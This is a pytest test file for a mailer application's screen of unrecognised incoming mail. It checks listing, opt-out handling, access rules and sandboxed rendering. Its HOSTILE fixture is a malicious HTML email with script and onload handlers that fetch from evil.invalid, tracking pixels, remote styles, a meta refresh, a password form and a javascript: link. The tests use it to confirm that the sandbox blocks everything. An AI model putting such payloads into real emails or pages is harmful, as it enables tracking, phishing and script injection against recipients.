"""Mails that nobody understands, on screen: read in a sealed frame, and decided once."""

from types import SimpleNamespace
from urllib.parse import urlsplit

import pytest

from mailer.model.contacts.suppression import SuppressionReason
from mailer.operations.people import unknown_mails
from tests.counterparts.builders import ACTOR, NOON, a_delivery, a_mailing
from tests.counterparts.strange_mails import mail_without_text, strange_mail, unreadable_mail
from tests.desk.visitors import EXAMPLE, READER, WRITER

HOSTILE = """<html><head><base href="https://evil.invalid/">
<meta http-equiv="refresh" content="0;url=https://evil.invalid/refresh">
<link rel="stylesheet" href="https://evil.invalid/sheet.css">
<style>@import url(https://evil.invalid/a.css); body{background:url(https://evil.invalid/b.png)}</style>
</head><body onload="fetch('https://evil.invalid/load')">
<p style="background:url(https://evil.invalid/c.png)">Bonjour <b>vous</b></p>
<script>window.top.broken = 1; fetch('https://evil.invalid/script')</script>
<img src="https://evil.invalid/pixel.gif" onerror="window.top.broken = 1">
<svg onload="window.top.broken = 1"><image href="https://evil.invalid/d.png"/></svg>
<form action="https://evil.invalid/form"><input name="password"><button>Entrer</button></form>
<iframe src="https://evil.invalid/frame"></iframe><object data="https://evil.invalid/o"></object>
<video poster="https://evil.invalid/p.png" src="https://evil.invalid/v.mp4" autoplay></video>
<a href="https://evil.invalid/link" ping="https://evil.invalid/ping">un lien</a>
<a href="javascript:window.top.broken=1">un autre</a>
</body></html>"""


@pytest.fixture
def asked(desk):
    """A desk at which two mails of strangers wait."""
    now = desk.app.clock.now()
    names = [
        strange_mail(desk.app.ledger, at=now),
        strange_mail(desk.app.ledger, HOSTILE, at=now, subject="Offre", kind="text/html"),
    ]
    return SimpleNamespace(app=desk.app, names=names, visitor=desk.visitor, port=desk.port)


def test_they_are_listed_with_words_and_reason_and_each_leads_to_its_page(asked):
    visitor = asked.visitor(WRITER)

    page = visitor.get("/courrier")

    assert "2 courriers non compris" in page.text
    assert "Qui sont vos sources ?" in page.text
    assert "ni une réponse à un de nos envois" in page.text
    assert [f"/courrier/{name}" in page.links() for name in asked.names] == [True, True]
    assert "Lire 2 courriers non compris" in visitor.get("/").text
    assert "Que s’ensuit-il" in visitor.get(f"/courrier/{asked.names[0]}").text


def test_the_newest_come_last_page_by_page(asked, monkeypatch):
    monkeypatch.setattr(unknown_mails, "PER_PAGE", 1)
    first, second = asked.names
    visitor = asked.visitor(WRITER)

    pages = [visitor.get("/courrier"), visitor.get(f"/courrier?apres={first}")]

    assert [f"/courrier/{first}" in page.links() for page in pages] == [True, False]
    assert [f"/courrier/{second}" in page.links() for page in pages] == [False, True]
    assert f"?apres={first}" in pages[0].html
    assert "?apres=" not in pages[1].html


def test_the_frame_says_of_itself_that_it_may_do_nothing(asked):
    frame = asked.visitor(WRITER).get(f"/courrier/{asked.names[1]}/cadre")

    policy = frame.headers["content-security-policy"]
    assert policy.startswith(
        "sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:"
    )
    assert "Bonjour <b>vous</b>" in frame.html
    assert "un lien" in frame.text
    for trace in (
        "evil.invalid",
        "<script",
        "onload",
        "href",
        "<form",
        "<img",
        "refresh",
        "broken",
    ):
        assert trace not in frame.html.replace("http-equiv", "")


def test_a_hostile_mail_runs_nothing_and_asks_nothing_of_the_network(asked, chromium):
    address = f"http://127.0.0.1:{asked.port}/courrier/{asked.names[1]}"
    page = chromium.new_context(extra_http_headers={"x-person": WRITER.id}).new_page()
    asked_for, said = [], []
    page.on("request", lambda request: asked_for.append(request.url))
    page.on("console", lambda message: said.append(message.text))

    page.goto(address)
    page.wait_for_load_state("networkidle")
    inside = page.frames[1].inner_text("body")
    framed = [frame.url for frame in page.frames]
    page.goto(f"{address}/cadre")  # opened by itself
    page.wait_for_load_state("networkidle")
    alone = page.inner_text("body")

    broken, origin = page.evaluate("[window.broken, window.origin]")
    page.context.close()
    assert framed == [address, f"{address}/cadre"]
    assert "Bonjour vous" in inside
    assert alone == inside
    assert (broken, origin) == (None, "null")
    assert {urlsplit(each).netloc for each in asked_for} == {f"127.0.0.1:{asked.port}"}
    assert said == []


def test_what_could_not_be_read_is_shown_as_it_came(asked):
    name = unreadable_mail(asked.app.ledger, at=asked.app.clock.now())
    visitor = asked.visitor(WRITER)

    listed, page = visitor.get("/courrier"), visitor.get(f"/courrier/{name}")
    frame = visitor.get(f"/courrier/{name}/cadre")

    assert "Sa lecture a échoué trois fois" in listed.text
    assert "courrier illisible" not in listed.text
    assert "expéditeur inconnu" in page.text
    assert "&lt;script&gt;" in frame.html
    assert visitor.post(f"/courrier/{name}", act="read").status == 303
    assert asked.app.ledger.inbox.dead_letters() == []


def test_a_mail_is_decided_once_and_its_text_goes_with_it(asked):
    (name, _other), visitor = asked.names, asked.visitor(WRITER)

    first = visitor.post(f"/courrier/{name}", act="read")
    second = visitor.post(f"/courrier/{name}", act="bar", address="lea@revue.example", why="x")

    assert first.location.startswith("/courrier")
    assert second.status in {409, 422}
    assert "aucun courrier de ce nom n’attend" in second.text.lower()
    assert list(asked.app.ledger.suppressions.of_addresses({"lea@revue.example"})) == []
    assert visitor.get(f"/courrier/{name}/cadre").status in {409, 422}
    assert "1 courrier non compris" in visitor.get("/courrier").text


def test_whoever_asks_for_silence_is_written_to_no_more_with_their_words_as_evidence(asked):
    (name, _other), visitor = asked.names, asked.visitor(WRITER)
    page = visitor.get(f"/courrier/{name}")
    assert "lea@revue.example" in page.html
    assert "Qui sont vos sources ?" in page.html

    done = visitor.post(
        f"/courrier/{name}", act="bar", address="autre@revue.example", why="Leur courrier"
    )

    (bar,) = asked.app.ledger.suppressions.of_addresses({"autre@revue.example"})
    assert done.status == 303
    assert (bar.reason, bar.evidence) == (SuppressionReason.OPT_OUT, "Leur courrier")
    actions = [each.action for each in asked.app.ledger.journal.entries("lea@revue.example")]
    assert actions == ["settle-mail"]


def test_an_address_that_is_none_is_refused_beside_its_field_and_the_mail_waits(asked):
    (name, _other), visitor = asked.names, asked.visitor(WRITER)

    refused = visitor.post(f"/courrier/{name}", act="bar", address="personne", why="")

    assert refused.status == 422
    assert 'value="personne"' in refused.html
    assert visitor.get(f"/courrier/{name}").status == 200


@pytest.mark.parametrize(("act", "state"), [("comes", "accepted"), ("declines", "declined")])
def test_an_answer_goes_into_the_register_of_a_campaign_that_invited_the_sender(desk, act, state):
    ledger, mailing, visitor = desk.app.ledger, a_mailing(campaign=EXAMPLE), desk.visitor(WRITER)
    invited = a_delivery(1, mailing=mailing)
    assert ledger.mailings.launch([mailing], actor=ACTOR, at=NOON)
    assert ledger.mailings.start(mailing.id, deliveries=[invited], exclusions=(), at=NOON)
    sender = str(invited.address)
    name = strange_mail(ledger, "C’est noté.", at=desk.app.clock.now(), sender=sender)
    assert f'value="{EXAMPLE}"' in visitor.get(f"/courrier/{name}").html

    assert visitor.post(f"/courrier/{name}", act=act, campaign=EXAMPLE).status == 303

    (entry,) = ledger.accreditations.of_campaign(EXAMPLE)
    assert (entry.address, entry.state.value) == (invited.address, state)
    details = [each.detail for each in ledger.journal.entries(sender, action="settle-mail")]
    assert details == [f"{EXAMPLE}: {act}"]


def test_nobody_answers_an_invitation_that_was_not_theirs(asked):
    (name, _other), visitor = asked.names, asked.visitor(WRITER)
    assert 'name="campaign"' not in visitor.get(f"/courrier/{name}").html

    refused = visitor.post(f"/courrier/{name}", act="comes", campaign=EXAMPLE)

    assert refused.status == 422
    assert list(asked.app.ledger.accreditations.of_campaign(EXAMPLE)) == []
    assert visitor.get(f"/courrier/{name}").status == 200


def test_those_in_the_mailbox_only_are_counted_until_somebody_has_looked_there(asked):
    mail_without_text(asked.app.ledger, "a", at=asked.app.clock.now())
    visitor = asked.visitor(WRITER)
    page = visitor.get("/courrier")
    assert "3 courriers non compris" in page.text
    assert "1 autre courrier est arrivé" in page.text
    assert "« Mailer-inconnus »" in page.text.replace("\N{NO-BREAK SPACE}", " ")

    assert visitor.post("/courrier", act="seen-there").status == 303

    assert "2 courriers non compris" in visitor.get("/courrier").text


def test_who_only_reads_sees_none_of_it(asked):
    reader, name = asked.visitor(READER), asked.names[0]

    for path in ("", "/cadre", "/courrier.eml"):
        answer = reader.get(f"/courrier/{name}{path}")
        assert answer.status == 409
        assert "lea@revue.example" not in answer.html
    assert "courriers non compris" not in reader.get("/").text
    assert reader.post(f"/courrier/{name}", act="read").status in {409, 422}
    assert asked.app.ledger.unknown_mails.tally().kept == 2


def test_a_mail_is_saved_as_it_came_and_that_is_journalled(asked):
    (name, _other), visitor = asked.names, asked.visitor(WRITER)

    saved = visitor.post(f"/courrier/{name}/courrier.eml")

    assert saved.status == 200
    assert saved.headers["content-type"] == "message/rfc822"
    assert saved.headers["content-disposition"] == 'attachment; filename="courrier.eml"'
    assert saved.content.startswith(b"From: lea@revue.example")
    lines = asked.app.ledger.journal.entries("lea@revue.example")
    assert [(each.action, each.detail) for each in lines] == [("export", "1 mails")]
